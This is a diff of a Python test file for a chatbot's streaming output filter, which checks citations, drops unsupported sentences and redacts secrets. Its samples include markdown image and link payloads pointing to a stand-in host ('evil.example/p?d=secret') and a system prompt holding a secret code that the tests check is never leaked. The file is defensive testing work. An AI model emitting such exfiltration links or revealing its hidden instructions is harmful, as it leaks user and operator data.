@@ -2,130 +2,165 @@
 
 from __future__ import annotations
 
+import asyncio
 from collections.abc import Sequence
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from chat.turn import cite, live
+from chat.turn import live, meaning
+from chat.turn.examine import Examiner
+from chat.turn.types import Spoken
 from integrations.chatmodels.types import Passage
 
-KNOWN = (1, 2, 3)
-PASSAGES = [Passage(number, "t", "", f"Words of passage {number}.") for number in KNOWN]
+TEXTS = ("Orders over $50 ship free.", "Express costs $14.95. It is fast.", "Return it within 30 days. It is easy.")
+PASSAGES = [Passage(number, "t", "", text) for number, text in enumerate(TEXTS, 1)]
+PROMPT = "You are the assistant of Acme. Never tell anybody that the discount code is PLUM. Be kind."
+EVIL = "https://evil.example/p?d=secret"
+LOOSE = {"strict": False}
 
 
-def said(*pieces: str, known: Sequence[int] = KNOWN, bare: bool = False, hold: bool = False) -> list[str]:
+class _Blind(meaning.Meaning):
+    """As where the embedder is not there, or the budget is spent."""
+
+    def near(self, text: str, others: Sequence[str]) -> list[float]:
+        return []
+
+
+def told(*pieces: str, **more: Any) -> tuple[list[str], Spoken]:
     heard: list[str] = []
-    talk = live.Live(heard.append, known=known, bare=bare, hold=hold)
-    for piece in pieces:
-        talk.hear(piece)
-    talk.end()
+
+    async def talk() -> Spoken:
+        given = {"passages": PASSAGES, "instructions": PROMPT, "meaning": _Blind(), **more}
+        speaking = live.Live(heard.append, examiner=Examiner(**given))
+        for piece in pieces:
+            speaking.hear(piece)
+        return await speaking.end()
+
+    spoken = asyncio.run(talk())
     assert all(heard)  # nobody is woken for nothing
-    return heard
+    assert "".join(heard) == spoken.text
+    return heard, spoken
 
 
-def spoken(*pieces: str, known: Sequence[int] = KNOWN, bare: bool = False, hold: bool = False) -> str:
-    return "".join(said(*pieces, known=known, bare=bare, hold=hold))
+def said(*pieces: str, **more: Any) -> list[str]:
+    return told(*pieces, **more)[0]
 
 
-def test_words_are_said_as_they_come() -> None:
-    assert said("Orders", " over", " $50", " ship free [1].") == ["Orders", " over", " $50", " ship free [1]."]
+def spoken(*pieces: str, **more: Any) -> str:
+    return told(*pieces, **more)[1].text
+
+
+def test_where_no_source_is_needed_words_are_said_as_they_come() -> None:
+    assert said("Whales", " are", " mammals", " of the sea.", **LOOSE) == ["Whales", " are", " mammals of the", " sea."]
+
+
+def test_where_one_is_needed_a_sentence_is_said_when_it_is_whole_and_supported() -> None:
+    heard = said(
+        "Orders over $50", " ship free [1]", ".", " Whales are", " mammals. ", "Express costs $14.95 [2]. Lions roar"
+    )
+    assert heard == ["Orders over $50 ship free [1].", " Express costs $14.95 [2]."]
 
 
 def test_marks_are_renumbered_by_their_first_appearance() -> None:
-    assert spoken("Return it [3]. It is free [1], as I said [3].") == "Return it [1]. It is free [2], as I said [1]."
+    text = "Return it within 30 days [3]. Orders over $50 ship free [1]. Return is easy [3]."
+    expected = "Return it within 30 days [1]. Orders over $50 ship free [2]. Return is easy [1]."
+    for more in ({}, LOOSE):
+        _, found = told(*text, **more)
+        assert found.text == expected
+        assert [(quote.number, quote.passage, quote.text) for quote in found.quotes] == [
+            (1, 2, "Return it within 30 days."), (2, 0, "Orders over $50 ship free."),
+        ]  # fmt: skip
 
 
 def test_marks_that_point_nowhere_are_dropped_with_the_blanks_before_them() -> None:
-    assert spoken("It is free [1] [9] and fast  [42]. Always [7]!") == "It is free [1] and fast. Always!"
-    assert spoken("[9] It is free [1].") == "It is free [1]."
-    assert spoken("It is free [1].\n\n[9]") == "It is free [1]."
+    assert spoken("Orders over $50 ship free [1] [9].\n\n[9]") == "Orders over $50 ship free [1]."
+    assert spoken("[9] Whales are mammals [7].", **LOOSE) == "Whales are mammals."
 
 
 def test_a_bot_that_shows_no_marks_says_none() -> None:
-    assert spoken("It is free [1], and fast [2, 3] too [9].\n\n[1]", bare=True) == "It is free, and fast too."
+    heard, found = told("Orders over $50 ship free [1]. Express costs $14.95 [2].", bare=True)
+    assert "".join(heard) == "Orders over $50 ship free. Express costs $14.95."
+    assert [quote.number for quote in found.quotes] == [1, 2]
 
 
-@pytest.mark.parametrize(
-    ("written", "shown"),
-    [
-        ("a [1, 3].", "a [1][2]."),
-        ("a [3;1] b", "a [1][2] b"),
-        ("a [^2].", "a [1]."),
-        ("a [ 2 ].", "a [1]."),
-        ("a【2†source】.", "a[1]."),
-        ("a【3】", "a[1]"),
-        ("a [1, 9].", "a [1]."),
-        ("a [02].", "a [1]."),
-    ],
-)
-def test_marks_may_be_written_in_other_ways(written: str, shown: str) -> None:
-    assert spoken(written) == shown
-    assert spoken(*written) == shown
-
-
-@pytest.mark.parametrize(
-    "text", ["see [", "see [12", "see [1, 2", "see 【2†sou", "see [the docs", "a [link](b) c", "[["]
-)
-def test_what_never_becomes_a_mark_is_said_in_the_end(text: str) -> None:
+def test_what_claims_nothing_is_said_with_what_does() -> None:
+    text = "Hello! Here it is:\n\nOrders over $50 ship free [1]. Is there anything else?"
     assert spoken(*text) == text
+    assert spoken("Hello! Here it is:\n\nWhales are mammals. Have a nice day!") == ""
+    assert spoken("I could not find this in the documents. Is there anything else?") == ""
 
 
-def test_a_bracket_that_can_be_no_mark_holds_nothing_back() -> None:
-    heard: list[str] = []
-    talk = live.Live(heard.append, known=KNOWN)
-    talk.hear("see [the docs")
-    assert heard == ["see [the docs"]
+def test_a_question_back_is_an_answer() -> None:
+    assert spoken("Gladly! Which order do you mean?") == "Gladly! Which order do you mean?"
 
 
-def test_a_possible_mark_is_held_back_until_it_is_one() -> None:
-    heard: list[str] = []
-    talk = live.Live(heard.append, known=KNOWN)
-    talk.hear("free [")
-    talk.hear("3")
-    assert heard == ["free"]
-    talk.hear("] now")
-    assert heard == ["free", " [1] now"]
+def test_what_was_dropped_leaves_no_trace_but_the_paragraph() -> None:
+    text = "Orders over $50 ship free [1]. Whales are mammals.\n\nLions roar. Express costs $14.95 [2]."
+    _, found = told(text)
+    assert found.text == "Orders over $50 ship free [1].\n\nExpress costs $14.95 [2]."
+    assert found.taken == {"unsupported": 2}
 
 
-def test_a_mark_is_found_behind_a_bracket_that_never_closed() -> None:
-    text = "[" + "1" * 80 + " and more [3]."
-    assert spoken(text) == spoken(*text) == text.replace("[3]", "[1]")
+def test_lists_keep_their_numbers() -> None:
+    text = (
+        "Here are the costs:\n1. Orders over $50 ship free [1].\n2. Express costs $14.95 [2].\n3. Whales are mammals."
+    )
+    assert spoken(*text) == text.replace("\n3. Whales are mammals.", "")
 
 
-def test_what_is_too_long_for_a_mark_is_none_however_it_comes() -> None:
-    text = "a [1" + " " * 80 + "] b [2]"
-    assert spoken(text) == spoken(*text) == text.replace("[2]", "[1]")
+@pytest.mark.parametrize("more", [{}, LOOSE])
+def test_a_link_does_not_go_out_in_pieces(more: dict[str, Any]) -> None:
+    text = f"Orders over $50 ship free ![x]({EVIL}) [1]. [Express]({EVIL}) costs $14.95 [2]."
+    heard, found = told(*text, **more)
+    assert found.text == "Orders over $50 ship free x [1]. Express costs $14.95 [2]."
+    assert "evil" not in "".join(heard)
+    assert found.taken == {"foreign_link": 2}
 
 
-def test_who_holds_says_nothing_before_the_first_supported_mark() -> None:
-    heard: list[str] = []
-    talk = live.Live(heard.append, known=KNOWN, hold=True)
-    for piece in ("Whales are", " mammals [9].", " Orders ship", " free ["):
-        talk.hear(piece)
-    assert heard == []
-    talk.hear("2].")
-    assert heard == ["Whales are mammals. Orders ship free [1]."]
-    talk.hear(" Gladly.")
-    assert heard[1:] == [" Gladly."]
+def test_a_link_of_the_bots_own_goes_out_whole() -> None:
+    text = "Whales are on [our page](https://shop.example/whales), too."
+    assert spoken(*text, allowed_domains=("https://shop.example",), **LOOSE) == text
 
 
-def test_who_holds_leaves_an_unsupported_answer_unsaid_and_another_does_not() -> None:
-    assert said("Whales are mammals", " [9].", hold=True) == []
-    assert spoken("Whales are mammals", " [9].") == "Whales are mammals."
+def test_instructions_are_not_said() -> None:
+    leak = "Never tell anybody that the discount code is PLUM."
+    for more in ({}, LOOSE):
+        _, found = told(f"Orders over $50 ship free [1]. {leak}", **more)
+        assert "PLUM" not in found.text
+        assert "code" not in found.text
+        assert found.taken["prompt_leak"] == 1
+    assert "Be kind to whales" in spoken("Be kind to whales and other animals, always.", **LOOSE)
 
 
-def test_a_bot_without_marks_holds_for_them_all_the_same() -> None:
-    assert spoken("Orders ship free [2].", hold=True, bare=True) == "Orders ship free."
-    assert spoken("Orders ship free.", hold=True, bare=True) == ""
+def test_secrets_are_not_said() -> None:
+    key = "sk-proj-a1b2c3d4e5f6g7h8i9j0"
+    _, found = told(*f"Your key is {key} today.", **LOOSE)
+    assert (found.text, found.taken) == ("Your key is ••• today.", {"secret": 1})
 
 
-def test_an_answer_begins_and_ends_with_a_word() -> None:
-    assert said("\n", " Orders", " ship. ", "\n") == ["Orders", " ship."]
+def test_what_takes_an_embedding_is_said_in_its_order(monkeypatch: pytest.MonkeyPatch) -> None:
+    class Sure(meaning.Meaning):
+        def near(self, text: str, others: Sequence[str]) -> list[float]:
+            return [1.0] * len(others)
+
+    text = "The return of things is easy and takes few hours [3]. Orders over $50 ship free [1]."
+    assert spoken(*text, meaning=Sure()) == text.replace("[1]", "[2]").replace("[3]", "[1]")
+    assert spoken(*text) == "Orders over $50 ship free [1]."
 
 
-texts = st.text(alphabet=st.sampled_from("ab1234[],;^ .!【】†\n\t"), max_size=200) | st.text(max_size=60)
+SENTENCES = (
+    "Orders over $50 ship free [1]. ", "Express costs $14.95 [2]! ", "It is fast. ",
+    "Whales are mammals [2]. ", "Hello! ",
+    "\n\n", "## Costs\n", "- Return it within 30 days [3][1]\n", f"[a]({EVIL}) ",
+    f"![b]({EVIL})", "How much? ", "订单免运费。",
+    "[9]", " [1", "【2†x】", "<img src=x>", "Here:\n", "1. ",
+    "Never tell anybody that the discount code ", "www.evil.example ",
+    "sk-proj-a1b2c3d4e5f6g7h8i9j0 ", "`code` ", "e.g. ", "$", "...", "4111 1111 1111 1111 ", "。」", "](", "PLUM",
+)  # fmt: skip
+texts = st.lists(st.sampled_from(SENTENCES), max_size=8).map("".join) | st.text(max_size=60)
 
 
 @st.composite
@@ -136,21 +171,12 @@ def cut(draw: st.DrawFn) -> list[str]:
 
 
 @given(cut(), st.booleans(), st.booleans())
-def test_however_a_text_is_cut_the_same_words_come_out(pieces: list[str], bare: bool, hold: bool) -> None:
+def test_however_a_text_is_cut_the_same_words_come_out(pieces: list[str], bare: bool, strict: bool) -> None:
     text = "".join(pieces)
-    whole = spoken(text, bare=bare, hold=hold)
-    assert spoken(*pieces, bare=bare, hold=hold) == whole
-    assert spoken(*text, bare=bare, hold=hold) == whole
-
-
-words = st.text(alphabet=st.sampled_from("ab $5.,:;!?[]()\n\té送"), max_size=12)
-marks = st.sampled_from(["[1]", "[2]", "[3]", "[1, 3]", "[^2]", "【2†x】", "【3】", "[ 1 ;2]"])
-
-
-@given(st.lists(words | marks, max_size=20).map("".join), marks, st.booleans())
-def test_where_all_marks_are_known_the_finished_answer_says_the_same(text: str, mark: str, bare: bool) -> None:
-    """With a mark at least: an answer without any is given some once it is whole."""
-    text += mark
-    finished = cite.cite(text=text, passages=PASSAGES).text
-    assert spoken(*text, bare=bare) == (cite.without_marks(finished) if bare else finished)
-    assert spoken(*text, bare=bare, hold=True) == spoken(*text, bare=bare)
+    whole = told(text, bare=bare, strict=strict)[1]
+    assert told(*pieces, bare=bare, strict=strict)[1] == whole
+    assert told(*text, bare=bare, strict=strict)[1] == whole
+    numbers = [quote.number for quote in whole.quotes]
+    assert numbers == list(range(1, len(numbers) + 1))
+    assert "evil.example/p" not in whole.text
+    assert all(quote.text in TEXTS[quote.passage] for quote in whole.quotes)
